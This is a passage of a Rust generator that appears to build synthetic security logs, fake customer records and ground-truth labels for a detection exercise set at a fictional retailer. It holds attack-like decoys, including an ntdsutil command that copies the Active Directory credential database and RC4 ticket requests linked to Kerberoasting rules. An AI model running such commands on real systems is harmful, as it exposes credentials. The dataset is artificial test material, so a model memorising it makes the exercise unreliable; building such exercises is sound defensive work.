//! The story: who works at the retailer, what they do every day, the look-alikes, and the
//! intrusion, as records of the files they belong to. Times are milliseconds since the epoch.

use crate::format::{clf, csv, epoch, iso_ms, iso_us, js, pg, pg_s, rfc3339, snow};
use crate::rng::Rng;
use crate::{Config, DAYS, START_MS};

const MIN: i64 = 60_000;
const HOUR: i64 = 60 * MIN;
const DAY: i64 = 24 * HOUR;

/// What a record is, for the ground truth.
#[derive(Debug, Clone)]
pub(crate) enum Tag {
    Background,
    /// Something every company does that looks like an attack.
    Decoy(&'static str),
    Attack(Attack),
}

#[derive(Debug, Clone)]
pub(crate) struct Attack {
    pub stage: u8,
    pub what: &'static str,
    /// Accounts the step uses or abuses, as the record names them.
    pub accounts: Vec<String>,
    /// Hosts it touches.
    pub hosts: Vec<&'static str>,
}

/// One line of one file.
#[derive(Debug, Clone)]
pub(crate) struct Rec {
    pub t: i64,
    pub file: &'static str,
    pub line: String,
    /// For Windows events: the channel whose `EventRecordID` the line takes (`{RID}`).
    pub channel: Option<&'static str>,
    pub tag: Tag,
}

pub(crate) struct Told {
    pub records: Vec<Rec>,
    /// Snapshot files (path, CSV text) of the personal-data tables.
    pub snapshots: Vec<(&'static str, String)>,
}

pub(crate) const OKTA: &str = "logs/okta/system-log.jsonl";
pub(crate) const SNOW: &str = "logs/servicenow/incidents.jsonl";
pub(crate) const SNOW_CHANGES: &str = "logs/servicenow/change_requests.jsonl";
pub(crate) const DC01: &str = "logs/windows/DC01.jsonl";
pub(crate) const JMP01: &str = "logs/windows/JMP01.jsonl";
pub(crate) const BKP01: &str = "logs/windows/BKP01.jsonl";
pub(crate) const PG: &str = "logs/db01/postgresql.csv";
pub(crate) const DB_AUTH: &str = "logs/db01/auth.log";
pub(crate) const ESX_SHELL: &str = "logs/esx01/shell.log";
pub(crate) const ESX_AUTH: &str = "logs/esx01/auth.log";
pub(crate) const ESX_HOSTD: &str = "logs/esx01/hostd.log";
pub(crate) const ESX_VOBD: &str = "logs/esx01/vobd.log";
pub(crate) const PROXY: &str = "logs/proxy/access.log";
pub(crate) const SHOP: &str = "logs/web01/access.log";
pub(crate) const CUSTOMERS: &str = "snapshots/public.customers.csv";
pub(crate) const ORDERS: &str = "snapshots/public.orders.csv";
/// The data-protection officer's map of the personal-data tables (docs/scope.md).
pub(crate) const DATA_MAP: &str = "data-map.yml";
const DATA_MAP_TEXT: &str = "\
# Which tables hold people, the column that identifies a person, and each column's category.
tables:
  public.customers:
    person: customer_id
    columns:
      first_name: name
      last_name: name
      email: email
      date_of_birth: date_of_birth
      phone: phone
      postcode: postal_address
  public.orders:
    person: customer_id
    columns:
      order_id: order_history
      delivery_postcode: order_history
      items_json: order_history
";

const DOMAIN: &str = "NORTHGATE";
const DNS: &str = "corp.northgate.example";
const MAIL: &str = "northgate.example";
const JMP_IP: &str = "10.10.30.23";
const APP_IP: &str = "10.10.50.31";
const CORP_EGRESS: &str = "198.51.100.20";
const ATTACKER_IP: &str = "203.0.113.66";
const VPN_IP: &str = "10.10.200.14";

struct Person {
    sam: String,
    email: String,
    ip: String,
}

const FIRST: [&str; 32] = [
    "alice", "ben", "chloe", "dan", "ella", "finn", "grace", "harry", "isla", "jack", "kate",
    "leo", "mia", "noah", "olivia", "paul", "quinn", "ruby", "sam", "tara", "umar", "vera", "will",
    "xena", "yusuf", "zara", "amir", "beth", "carl", "dina", "eric", "fay",
];
const LAST: [&str; 32] = [
    "adams", "baker", "clark", "davies", "evans", "fisher", "green", "hall", "irwin", "jones",
    "khan", "lewis", "moore", "nash", "owen", "patel", "quill", "reed", "shaw", "taylor", "usman",
    "vance", "walsh", "xu", "young", "zhou", "ali", "brown", "cole", "dunn", "ellis", "ford",
];

fn staff(rng: &mut Rng, n: usize) -> Vec<Person> {
    let mut out: Vec<Person> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    // Two fixed people the story needs: the first victim and the lost-phone caller.
    for sam in ["j.doe", "m.jones"] {
        seen.insert(sam.to_string());
        out.push(person(sam, out.len()));
    }
    while out.len() < n {
        let base = format!("{}.{}", &rng.pick(&FIRST)[..1], rng.pick(&LAST));
        // Initial and surname give only a few hundred names; a directory numbers the rest.
        let mut sam = base.clone();
        let mut k = 2;
        while !seen.insert(sam.clone()) {
            sam = format!("{base}{k}");
            k += 1;
        }
        out.push(person(&sam, out.len()));
    }
    out
}

fn person(sam: &str, i: usize) -> Person {
    Person {
        sam: sam.to_string(),
        email: format!("{sam}@{MAIL}"),
        ip: format!("10.10.20.{}", 10 + i % 240),
    }
}

/// Everything the story writes.
pub(crate) fn tell(cfg: &Config) -> Told {
    let root = Rng::new(cfg.seed);
    let mut s = Story {
        recs: Vec::new(),
        rng: root.fork("story"),
        pid: 4000,
    };
    let n_staff = ((150.0 * cfg.scale).round() as usize).max(12);
    let people = staff(&mut root.fork("staff"), n_staff);
    let n_customers = ((20_000.0 * cfg.scale).round() as usize).max(300);
    let snapshots = tables(&mut root.fork("tables"), n_customers);
    for day in 0..DAYS {
        s.rng = root.fork(&format!("day{day}"));
        background_day(&mut s, &people, day, cfg.scale);
    }
    s.rng = root.fork("decoys");
    decoys(&mut s, &people);
    s.rng = root.fork("attack");
    attack(&mut s, n_customers);
    Told {
        records: s.recs,
        snapshots,
    }
}

struct Story {
    recs: Vec<Rec>,
    rng: Rng,
    pid: u32,
}

impl Story {
    fn push(&mut self, t: i64, file: &'static str, line: String, tag: Tag) {
        self.recs.push(Rec {
            t,
            file,
            line,
            channel: None,
            tag,
        });
    }

    fn pid(&mut self) -> u32 {
        self.pid += 1 + self.rng.below(40) as u32;
        self.pid
    }

    /// A Windows event in `evtx_dump`'s JSON shape.
    #[allow(clippy::too_many_arguments)]
    fn win(
        &mut self,
        t: i64,
        file: &'static str,
        channel: &'static str,
        provider: &str,
        id: u32,
        data: &[(&str, String)],
        tag: Tag,
    ) {
        let computer = match file {
            DC01 => format!("DC01.{DNS}"),
            JMP01 => format!("JMP01.{DNS}"),
            _ => format!("BKP01.{DNS}"),
        };
        let fields: Vec<String> = data
            .iter()
            .map(|(k, v)| format!("{}:{}", js(k), js(v)))
            .collect();
        let line = format!(
            r##"{{"Event":{{"#attributes":{{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"}},"System":{{"Provider":{{"#attributes":{{"Name":{}}}}},"EventID":{id},"Version":2,"Level":0,"Task":12544,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":{{"#attributes":{{"SystemTime":"{}"}}}},"EventRecordID":{{RID}},"Correlation":null,"Execution":{{"#attributes":{{"ProcessID":{},"ThreadID":{}}}}},"Channel":{},"Computer":{},"Security":null}},"EventData":{{{}}}}}}}"##,
            js(provider),
            iso_us(t),
            if channel == "Security" { 640 } else { 3120 },
            4100 + self.rng.below(900),
            js(channel),
            js(&computer),
            fields.join(",")
        );
        self.recs.push(Rec {
            t,
            file,
            line,
            channel: Some(channel),
            tag,
        });
    }

    fn security(&mut self, t: i64, file: &'static str, id: u32, data: &[(&str, String)], tag: Tag) {
        self.win(
            t,
            file,
            "Security",
            "Microsoft-Windows-Security-Auditing",
            id,
            data,
            tag,
        );
    }

    /// Sysmon 1: a process creation.
    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        t: i64,
        file: &'static str,
        user: &str,
        image: &str,
        cmd: &str,
        parent: &str,
        meta: (&str, &str, &str, &str),
        tag: Tag,
    ) {
        let (description, product, company, original) = meta;
        let pid = self.pid();
        let data = [
            ("RuleName", "-".to_string()),
            ("UtcTime", utc_time(t)),
            ("ProcessGuid", guid(&mut self.rng)),
            ("ProcessId", pid.to_string()),
            ("Image", image.to_string()),
            ("FileVersion", "-".to_string()),
            ("Description", description.to_string()),
            ("Product", product.to_string()),
            ("Company", company.to_string()),
            ("OriginalFileName", original.to_string()),
            ("CommandLine", cmd.to_string()),
            ("CurrentDirectory", "C:\\Windows\\system32\\".to_string()),
            ("User", user.to_string()),
            ("LogonGuid", guid(&mut self.rng)),
            (
                "LogonId",
                format!("0x{:x}", 0x3e7 + self.rng.below(0xfffff)),
            ),
            ("TerminalSessionId", "1".to_string()),
            ("IntegrityLevel", "High".to_string()),
            ("Hashes", format!("SHA256={:064X}", self.rng.next())),
            ("ParentProcessGuid", guid(&mut self.rng)),
            ("ParentProcessId", (pid - 7).to_string()),
            ("ParentImage", parent.to_string()),
            ("ParentCommandLine", parent.to_string()),
            ("ParentUser", user.to_string()),
        ];
        self.win(
            t,
            file,
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
            1,
            &data,
            tag,
        );
    }

    /// System 7045: a service installed.
    fn service(
        &mut self,
        t: i64,
        file: &'static str,
        name: &str,
        image: &str,
        start: &str,
        tag: Tag,
    ) {
        let data = [
            ("ServiceName", name.to_string()),
            ("ImagePath", image.to_string()),
            ("ServiceType", "user mode service".to_string()),
            ("StartType", start.to_string()),
            ("AccountName", "LocalSystem".to_string()),
        ];
        self.win(
            t,
            file,
            "System",
            "Service Control Manager",
            7045,
            &data,
            tag,
        );
    }

    /// Sysmon 22: a DNS query by `image` (process `pid`) answered with `answer`.
    #[allow(clippy::too_many_arguments)]
    fn dns(
        &mut self,
        t: i64,
        file: &'static str,
        pid: &str,
        query: &str,
        answer: &str,
        image: &str,
        user: &str,
        tag: Tag,
    ) {
        let data = [
            ("ProcessGuid", guid(&mut self.rng)),
            ("ProcessId", pid.to_string()),
            ("QueryName", query.to_string()),
            ("QueryStatus", "0".to_string()),
            ("QueryResults", format!("::ffff:{answer};")),
            ("Image", image.to_string()),
            ("User", user.to_string()),
        ];
        self.sysmon(t, file, 22, &data, tag);
    }

    fn sysmon(&mut self, t: i64, file: &'static str, id: u32, data: &[(&str, String)], tag: Tag) {
        let mut all = vec![("RuleName", "-".to_string()), ("UtcTime", utc_time(t))];
        all.extend(data.iter().cloned());
        self.win(
            t,
            file,
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
            id,
            &all,
            tag,
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn logon(
        &mut self,
        t: i64,
        file: &'static str,
        user: &str,
        kind: u32,
        ws: &str,
        ip: &str,
        package: &str,
        tag: Tag,
    ) {
        let id = format!("0x{:x}", 0x100000 + self.rng.below(0xeffffff));
        let data = [
            ("SubjectUserSid", "S-1-5-18".to_string()),
            ("SubjectUserName", "-".to_string()),
            ("SubjectDomainName", "-".to_string()),
            ("SubjectLogonId", "0x0".to_string()),
            ("TargetUserSid", sid(user)),
            ("TargetUserName", user.to_string()),
            ("TargetDomainName", DOMAIN.to_string()),
            ("TargetLogonId", id),
            ("LogonType", kind.to_string()),
            (
                "LogonProcessName",
                if kind == 10 { "User32" } else { "Kerberos" }.to_string(),
            ),
            ("AuthenticationPackageName", package.to_string()),
            ("WorkstationName", ws.to_string()),
            ("LogonGuid", guid(&mut self.rng)),
            ("TransmittedServices", "-".to_string()),
            ("LmPackageName", "-".to_string()),
            ("KeyLength", "0".to_string()),
            ("ProcessId", "0x0".to_string()),
            ("ProcessName", "-".to_string()),
            ("IpAddress", ip.to_string()),
            ("IpPort", self.rng.range(49152, 65535).to_string()),
            ("ImpersonationLevel", "%%1833".to_string()),
            ("ElevatedToken", "%%1842".to_string()),
        ];
        self.security(t, file, 4624, &data, tag);
    }

    /// A Kerberos ticket-granting ticket (4768): the account by its sAMAccountName and SID,
    /// the domain by its DNS name, as a domain controller writes it.
    fn tgt(&mut self, t: i64, user: &str, ip: &str, tag: Tag) {
        let data = [
            ("TargetUserName", user.to_string()),
            ("TargetDomainName", DNS.to_uppercase()),
            ("TargetSid", sid(user)),
            ("ServiceName", "krbtgt".to_string()),
            ("ServiceSid", format!("{}-502", domain_sid())),
            ("TicketOptions", "0x40810010".to_string()),
            ("Status", "0x0".to_string()),
            ("TicketEncryptionType", "0x12".to_string()),
            ("PreAuthType", "2".to_string()),
            ("IpAddress", format!("::ffff:{ip}")),
            ("IpPort", self.rng.range(49152, 65535).to_string()),
            ("CertIssuerName", String::new()),
            ("CertSerialNumber", String::new()),
            ("CertThumbprint", String::new()),
        ];
        self.security(t, DC01, 4768, &data, tag);
    }

    fn ticket(&mut self, t: i64, user: &str, service: &str, ip: &str, etype: &str, tag: Tag) {
        let data = [
            ("TargetUserName", format!("{user}@{}", DNS.to_uppercase())),
            ("TargetDomainName", DNS.to_uppercase()),
            ("ServiceName", service.to_string()),
            ("ServiceSid", sid(service)),
            ("TicketOptions", "0x40810000".to_string()),
            ("TicketEncryptionType", etype.to_string()),
            ("IpAddress", format!("::ffff:{ip}")),
            ("IpPort", self.rng.range(49152, 65535).to_string()),
            ("Status", "0x0".to_string()),
            ("LogonGuid", guid(&mut self.rng)),
            ("TransmittedServices", "-".to_string()),
        ];
        self.security(t, DC01, 4769, &data, tag);
    }

    #[allow(clippy::too_many_arguments)]
    fn okta(
        &mut self,
        t: i64,
        kind: &str,
        actor: &str,
        target: Option<&str>,
        ip: &str,
        new: bool,
        tag: Tag,
    ) {
        let target = target.map_or("null".to_string(), |t| {
            format!(
                r#"[{{"id":"00u{:x}","type":"User","alternateId":{},"displayName":{},"detailEntry":null}}]"#,
                short(t),
                js(t),
                js(t)
            )
        });
        let b = |k: &str| format!("{k}={}", if new { "POSITIVE" } else { "NEGATIVE" });
        let behaviors = format!(
            "{{{}, {}, {}, {}, Velocity=NEGATIVE, {}}}",
            b("New Geo-Location"),
            b("New Device"),
            b("New IP"),
            b("New State"),
            b("New City")
        );
        let (asn, org, proxy) = if ip == ATTACKER_IP {
            (64500, "example-vpn-hosting", true)
        } else {
            (2856, "british telecommunications plc", false)
        };
        let uuid = guid(&mut self.rng).trim_matches(['{', '}']).to_lowercase();
        let line = format!(
            r#"{{"uuid":"{uuid}","published":"{}","eventType":{},"version":"0","severity":"INFO","displayMessage":{},"actor":{{"id":"00u{:x}","type":"User","alternateId":{},"displayName":{},"detailEntry":null}},"client":{{"userAgent":{{"rawUserAgent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36","os":"Windows 10","browser":"CHROME"}},"zone":"null","device":"Computer","ipAddress":{},"geographicalContext":{{"country":"United Kingdom","city":"Leeds"}}}},"outcome":{{"result":"SUCCESS","reason":null}},"target":{target},"securityContext":{{"asNumber":{asn},"asOrg":{},"isp":{},"domain":null,"isProxy":{proxy}}},"debugContext":{{"debugData":{{"behaviors":{}}}}},"authenticationContext":{{"externalSessionId":"102{:x}"}}}}"#,
            iso_ms(t),
            js(kind),
            js(kind),
            short(actor),
            js(actor),
            js(actor),
            js(ip),
            js(org),
            js(org),
            js(&behaviors),
            self.rng.next() & 0xffff_ffff
        );
        self.push(t, OKTA, line, tag);
    }

    #[allow(clippy::too_many_arguments)]
    fn pgaudit(
        &mut self,
        t: i64,
        user: &str,
        client: &str,
        app: &str,
        table: &str,
        statement: &str,
        rows: u64,
        tag: Tag,
    ) {
        let pid = self.pid();
        let audit = format!(
            "AUDIT: SESSION,{},1,READ,SELECT,TABLE,{table},{},<none>,{rows}",
            1 + self.rng.below(9),
            csv(statement)
        );
        let line = format!(
            "{},{},\"retail_prod\",{pid},\"{client}:{}\",{:x}.{:x},{},\"SELECT\",{},{}/{},0,LOG,00000,{},,,,,,,,,{},\"client backend\",,0",
            pg(t),
            csv(user),
            self.rng.range(40000, 60000),
            t / 1000,
            pid,
            1 + self.rng.below(20),
            pg_s(t - 2000),
            1 + self.rng.below(8),
            self.rng.below(5000),
            csv(&audit),
            csv(app)
        );
        self.push(t, PG, line, tag);
    }

    #[allow(clippy::too_many_arguments)]
    fn squid(
        &mut self,
        t: i64,
        client: &str,
        out: u64,
        method: &str,
        url: &str,
        user: &str,
        ua: &str,
        tag: Tag,
    ) {
        let host = url.split('/').nth(2).unwrap_or("-");
        let line = format!(
            "{} {:>6} {client} TCP_MISS/200 {out} {} {method} {url} {user} HIER_DIRECT/{} {}",
            epoch(t),
            self.rng.range(20, 60000),
            self.rng.range(300, 90000),
            fake_ip(host),
            js(ua)
        );
        self.push(t, PROXY, line, tag);
    }

    fn syslog(
        &mut self,
        t: i64,
        file: &'static str,
        host: &str,
        program: &str,
        msg: &str,
        tag: Tag,
    ) {
        let pid = self.pid();
        self.push(
            t,
            file,
            format!("{} {host} {program}[{pid}]: {msg}", rfc3339(t)),
            tag,
        );
    }

    fn esx(&mut self, t: i64, file: &'static str, program: &str, msg: &str, tag: Tag) {
        let line = match file {
            ESX_VOBD => format!("{}: {msg}", iso_ms(t)),
            ESX_HOSTD => format!("{} info hostd[2099634] {msg}", iso_ms(t)),
            _ => format!(
                "{} {program}[{}]: {msg}",
                iso_ms(t),
                2_100_000 + self.rng.below(9000)
            ),
        };
        self.push(t, file, line, tag);
    }

    /// An approved change request, as the Table API exports `change_request`.
    #[allow(clippy::too_many_arguments)]
    fn change(
        &mut self,
        created: i64,
        number: u32,
        window: (i64, i64),
        ci: &str,
        assignee: &str,
        what: &str,
        tag: Tag,
    ) {
        let line = format!(
            r#"{{"number":"CHG{number:07}","sys_id":"{:032x}","sys_class_name":"change_request","sys_created_on":"{}","opened_by":{},"assigned_to":{},"type":"Normal","category":"Infrastructure","cmdb_ci":{},"short_description":{},"approval":"Approved","state":"Scheduled","start_date":"{}","end_date":"{}","risk":"Moderate"}}"#,
            self.rng.next(),
            snow(created),
            js(assignee),
            js(assignee),
            js(ci),
            js(what),
            snow(window.0),
            snow(window.1)
        );
        self.push(created, SNOW_CHANGES, line, tag);
    }

    fn ticket_call(
        &mut self,
        t: i64,
        number: u32,
        caller: &str,
        what: &str,
        contact: &str,
        tag: Tag,
    ) {
        let line = format!(
            r#"{{"number":"INC{number:07}","sys_id":"{:032x}","sys_created_on":"{}","opened_by":"h.desk1","caller_id":{},"contact_type":{},"category":"Account Access","subcategory":"MFA Reset","short_description":{},"assignment_group":"Service Desk L1","state":"Resolved","close_code":"Solved (Permanently)","work_notes":"Caller verified with employee ID and date of birth."}}"#,
            self.rng.next(),
            snow(t),
            js(caller),
            js(contact),
            js(what)
        );
        self.push(t, SNOW, line, tag);
    }
}

fn short(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    }) & 0xffff_ffff_ffff
}

fn domain_sid() -> &'static str {
    "S-1-5-21-3623811015-3361044348-30300820"
}

fn sid(user: &str) -> String {
    format!("{}-{}", domain_sid(), 1100 + short(user) % 9000)
}

fn guid(rng: &mut Rng) -> String {
    let (a, b) = (rng.next(), rng.next());
    format!(
        "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xffff,
        b >> 48,
        b & 0xffff_ffff_ffff
    )
}

fn utc_time(t: i64) -> String {
    let s = iso_us(t);
    format!("{} {}", &s[..10], &s[11..23])
}

fn fake_ip(host: &str) -> String {
    let h = short(host);
    format!("192.0.2.{}", 1 + h % 250)
}

fn at(day: i64, hour: i64, min: i64) -> i64 {
    START_MS + day * DAY + hour * HOUR + min * MIN
}

fn attack_tag(stage: u8, what: &'static str, accounts: &[&str], hosts: &[&'static str]) -> Tag {
    Tag::Attack(Attack {
        stage,
        what,
        accounts: accounts.iter().map(|a| a.to_string()).collect(),
        hosts: hosts.to_vec(),
    })
}

/// The personal-data tables as they stood when the data was taken.
fn tables(rng: &mut Rng, n: usize) -> Vec<(&'static str, String)> {
    let mut customers =
        String::from("customer_id,first_name,last_name,email,date_of_birth,phone,postcode\n");
    let mut orders = String::from("order_id,customer_id,delivery_postcode,items_json\n");
    let mut order_id = 5_000_001u64;
    for i in 0..n {
        let id = 100_001 + i as u64;
        let (f, l) = (rng.pick(&FIRST), rng.pick(&LAST));
        customers.push_str(&format!(
            "{id},{},{},{f}.{l}{}@mail.example,{}-{:02}-{:02},07700 9{:05},LS{} {}AB\n",
            cap(f),
            cap(l),
            rng.below(1000),
            rng.range(1940, 2005),
            rng.range(1, 12),
            rng.range(1, 28),
            rng.below(100_000),
            rng.range(1, 28),
            rng.range(1, 9)
        ));
        for _ in 0..rng.below(3) {
            orders.push_str(&format!(
                "{order_id},{id},LS{} {}AB,\"[{{\"\"sku\"\":{}}}]\"\n",
                rng.range(1, 28),
                rng.range(1, 9),
                rng.range(1000, 9999)
            ));
            order_id += 1;
        }
    }
    vec![
        (CUSTOMERS, customers),
        (ORDERS, orders),
        (DATA_MAP, DATA_MAP_TEXT.to_string()),
    ]
}

fn cap(s: &str) -> String {
    let mut c = s.chars();
    c.next()
        .map(|f| f.to_uppercase().collect::<String>() + c.as_str())
        .unwrap_or_default()
}

const SITES: [&str; 8] = [
    "https://www.bbc.co.uk/news",
    "https://outlook.office365.com/mail/",
    "https://northgate.atlassian.net/wiki/home",
    "https://www.google.com/search",
    "https://teams.microsoft.com/",
    "https://northgate.okta.com/app/UserHome",
    "https://www.gov.uk/",
    "https://shop.northgate.example/",
];

fn background_day(s: &mut Story, people: &[Person], day: i64, scale: f64) {
    let weekday = day % 7 < 5;
    let bg = || Tag::Background;
    for p in people {
        if !weekday && !s.rng.chance(0.1) {
            continue;
        }
        let t = at(day, 7, 30) + s.rng.range(0, 150) * MIN + s.rng.range(0, 59_999);
        s.okta(
            t,
            "user.session.start",
            &p.email,
            None,
            CORP_EGRESS,
            false,
            bg(),
        );
        s.okta(
            t + 40_000,
            "user.authentication.sso",
            &p.email,
            None,
            CORP_EGRESS,
            false,
            bg(),
        );
        let user = p.sam.clone();
        s.tgt(t + 5_000, &user, &p.ip, bg());
        s.logon(t + 6_000, DC01, &user, 3, "-", &p.ip, "Kerberos", bg());
        s.ticket(t + 9_000, &user, "FS01$", &p.ip, "0x12", bg());
        let off = t + 9 * HOUR + s.rng.range(0, 90) * MIN;
        let data = [
            ("TargetUserSid", sid(&user)),
            ("TargetUserName", user.clone()),
            ("TargetDomainName", DOMAIN.to_string()),
            ("TargetLogonId", "0x3c1a2f".to_string()),
            ("LogonType", "3".to_string()),
        ];
        s.security(off, DC01, 4634, &data, bg());
        for _ in 0..s.rng.range(3, 8) {
            let u = *s.rng.pick(&SITES);
            let tt = t + s.rng.range(0, 8 * 60) * MIN;
            let size = s.rng.range(400, 3000) as u64;
            s.squid(
                tt,
                &p.ip.clone(),
                size,
                "GET",
                u,
                &user,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
                bg(),
            );
        }
        if s.rng.chance(0.02) {
            let tt = t + s.rng.range(60, 400) * MIN;
            let size = s.rng.range(200_000, 3_000_000) as u64;
            s.squid(
                tt,
                &p.ip.clone(),
                size,
                "PUT",
                "https://content.dropboxapi.com/2/files/upload",
                &user,
                "Dropbox/195.4.4995",
                bg(),
            );
        }
    }
    // A legacy NAS that can only use RC4 asks for a ticket to its service account's share every
    // night (SigmaHQ's RC4 rule, and dwell's Kerberoasting one, fire daily on it).
    let t = at(day, 3, 0) + s.rng.range(0, 59_999);
    s.ticket(
        t,
        "NAS01$",
        "svc_nas",
        "10.10.10.60",
        "0x17",
        Tag::Decoy("legacy device asking for RC4 tickets"),
    );
    // The nightly PowerShell export job on the DC (SigmaHQ's non-interactive PowerShell rule).
    let t = at(day, 1, 0) + s.rng.range(0, 30_000);
    s.process(
        t,
        DC01,
        "NT AUTHORITY\\SYSTEM",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File C:\\Scripts\\export-users.ps1",
        "C:\\Windows\\System32\\svchost.exe",
        ("Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE"),
        bg(),
    );
    // The nightly Veeam job on the backup server.
    s.process(
        at(day, 0, 30),
        BKP01,
        "NORTHGATE\\svc_backup",
        "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe",
        "\"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe\" startbackupjob nightly-vms",
        "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe",
        ("Veeam Backup Manager", "Veeam Backup & Replication", "Veeam Software Group GmbH", "Veeam.Backup.Manager.exe"),
        bg(),
    );
    if weekday {
        // Administrators' routine RDP to the jump host, and SSH from it to the database.
        for admin in ["admin.p.smith", "admin.k.wu"] {
            if s.rng.chance(0.6) {
                let t = at(day, 9, 0) + s.rng.range(0, 420) * MIN;
                s.logon(
                    t,
                    JMP01,
                    admin,
                    10,
                    "WS100",
                    "10.10.20.100",
                    "Negotiate",
                    bg(),
                );
                if s.rng.chance(0.3) {
                    let msg = format!(
                        "Accepted publickey for opsadmin from {JMP_IP} port {} ssh2: ED25519 SHA256:Jx1vRk9ZTq",
                        s.rng.range(40000, 60000)
                    );
                    s.syslog(t + 10 * MIN, DB_AUTH, "db01", "sshd", &msg, bg());
                }
            }
        }
    }
    s.syslog(
        at(day, 6, 25),
        DB_AUTH,
        "db01",
        "CRON",
        "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        bg(),
    );
    // The shop: customers browse and order; the application reads one customer at a time.
    let visits = ((3000.0 * scale).round() as i64).max(40);
    for _ in 0..visits {
        let t = at(day, 0, 0) + s.rng.range(0, DAY / 1000 - 1) * 1000 + s.rng.range(0, 999);
        let ip = format!("192.0.2.{}", s.rng.range(1, 254));
        let path = *s.rng.pick(&[
            "/",
            "/products/boots",
            "/products/coats",
            "/basket",
            "/account/orders",
            "/static/app.js",
        ]);
        let line = format!(
            "{ip} - - [{}] \"GET {path} HTTP/1.1\" 200 {} \"https://shop.northgate.example/\" \"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)\"",
            clf(t),
            s.rng.range(300, 40_000)
        );
        s.push(t, SHOP, line, bg());
        if path == "/account/orders" {
            s.pgaudit(
                t + 12,
                "svc_orders",
                APP_IP,
                "order-service",
                "public.orders",
                "SELECT order_id, status, placed_at FROM public.orders WHERE customer_id = $1",
                3,
                bg(),
            );
        }
    }
    // ESXi: vCenter's agent logs in every six hours.
    for h in [0, 6, 12, 18] {
        let t = at(day, h, 1);
        s.esx(t, ESX_HOSTD, "hostd", "[Originator@6876 sub=Vimsvc.ha-eventmgr] Event 1201 : User vpxuser@127.0.0.1 logged in as VMware-client/6.5.0", bg());
    }
    // The nightly reporting job exports customers for the BI team: a look-alike every night.
    let t = at(day, 2, 0) + s.rng.range(0, 60_000);
    s.pgaudit(
        t,
        "svc_reports",
        JMP_IP,
        "nightly_export",
        "public.customers",
        "COPY (SELECT customer_id, postcode, created_at FROM public.customers) TO STDOUT WITH CSV HEADER",
        0,
        Tag::Decoy("nightly reporting job exports the customer table"),
    );
    if day % 7 == 0 {
        s.pgaudit(
            at(day, 3, 0),
            "svc_reports",
            JMP_IP,
            "weekly_report",
            "public.store_list",
            "SELECT * FROM public.store_list",
            412,
            Tag::Decoy("weekly SELECT * FROM store_list"),
        );
    }
}

fn decoys(s: &mut Story, people: &[Person]) {
    // Day 10: m.jones loses her phone; the help desk resets her factors and password, and she
    // signs in from the office, on her usual laptop.
    let mj = &people[1];
    let t = at(10, 8, 50);
    let d = || Tag::Decoy("genuine help-desk reset for a lost phone");
    s.ticket_call(
        t,
        41_001,
        &mj.sam,
        "Lost phone - MFA and password reset",
        "phone",
        d(),
    );
    let desk = format!("h.desk1@{MAIL}");
    s.okta(
        t + 2 * MIN,
        "user.mfa.factor.reset_all",
        &desk,
        Some(&mj.email.clone()),
        CORP_EGRESS,
        false,
        d(),
    );
    s.okta(
        t + 4 * MIN,
        "user.account.reset_password",
        &desk,
        Some(&mj.email.clone()),
        CORP_EGRESS,
        false,
        d(),
    );
    s.okta(
        t + 9 * MIN,
        "user.session.start",
        &mj.email.clone(),
        None,
        CORP_EGRESS,
        false,
        d(),
    );
    s.okta(
        t + 10 * MIN,
        "user.mfa.factor.activate",
        &mj.email.clone(),
        None,
        CORP_EGRESS,
        false,
        d(),
    );
    // Day 35: the planned IFM backup of Active Directory, under change CHG0012001, raised and
    // approved two days before.
    s.change(
        at(33, 11, 20),
        12_001,
        (at(35, 7, 0), at(35, 9, 0)),
        "DC01",
        "admin.k.wu",
        "Quarterly offline backup of Active Directory (ntdsutil IFM)",
        Tag::Decoy("planned ntdsutil IFM backup under a change ticket"),
    );
    s.process(
        at(35, 7, 15),
        DC01,
        "NORTHGATE\\admin.k.wu",
        "C:\\Windows\\System32\\ntdsutil.exe",
        "ntdsutil.exe \"ac i ntds\" ifm \"create full D:\\Backups\\IFM\\CHG0012001\" q q",
        "C:\\Windows\\System32\\cmd.exe",
        (
            "NT5DS",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "ntdsutil.exe",
        ),
        Tag::Decoy("planned ntdsutil IFM backup under a change ticket"),
    );
    // Day 40: the ESXi patch window, under its change.
    let p = || Tag::Decoy("administrator enables SSH on ESXi in a patch window");
    let t = at(40, 6, 0);
    s.change(
        at(37, 15, 5),
        12_044,
        (at(40, 5, 30), at(40, 7, 30)),
        "ESX01",
        "admin.k.wu",
        "ESXi 8.0 U3 patch for ESX01 (maintenance mode, SSH for the update)",
        p(),
    );
    s.esx(
        t,
        ESX_VOBD,
        "vobd",
        "[UserLevelCorrelator] 1093541011us: [esx.audit.ssh.enabled] SSH access has been enabled.",
        p(),
    );
    s.esx(
        t + MIN,
        ESX_AUTH,
        "sshd",
        "Accepted keyboard-interactive/pam for root from 10.10.20.100 port 50122 ssh2",
        p(),
    );
    s.esx(
        t + 2 * MIN,
        ESX_SHELL,
        "shell",
        "[root]: esxcli system maintenanceMode set --enable true",
        p(),
    );
